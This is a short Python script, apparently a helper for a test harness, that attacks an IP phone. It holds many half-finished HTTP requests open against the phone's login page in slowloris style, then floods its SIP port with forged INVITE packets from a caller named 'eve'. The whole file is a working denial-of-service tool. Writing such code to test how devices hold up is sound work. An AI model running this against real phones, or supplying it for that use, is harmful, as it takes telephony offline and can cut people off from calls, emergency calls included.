"""Somebody who besieges a phone: slow connections to its page, and a flood of INVITEs.

`siege.py SOURCE PHONE CONNECTIONS PACKETS` holds the connections, says `here`, sends the packets.
"""

import contextlib
import socket
import sys

HALF = b"GET /login HTTP/1.1\r\nHost: x\r\nX"
INVITE = (
    "INVITE sip:1001@{phone} SIP/2.0\r\nVia: SIP/2.0/UDP {source}:5060;branch=z9hG4bK{n}\r\n"
    "Max-Forwards: 70\r\nFrom: <sip:eve@{source}>;tag={n}\r\nTo: <sip:1001@{phone}>\r\n"
    "Call-ID: {n}\r\nCSeq: 1 INVITE\r\nContact: <sip:eve@{source}>\r\nContent-Length: 0\r\n\r\n"
)


def main(source: str, phone: str, connections: str, packets: str) -> None:
    held = []
    for _ in range(int(connections)):
        made = socket.socket()
        made.bind((source, 0))
        made.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            made.connect((phone, 80))
        held.append(made)
    for made in held:
        with contextlib.suppress(OSError):  # it was turned away already
            made.send(HALF)
    print("here", flush=True)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.bind((source, 5060))
        line.connect((phone, 5060))
        for n in range(int(packets)):
            with contextlib.suppress(ConnectionRefusedError):
                line.send(INVITE.format(phone=phone, source=source, n=n).encode())
    print("sent", flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main(*sys.argv[1:])
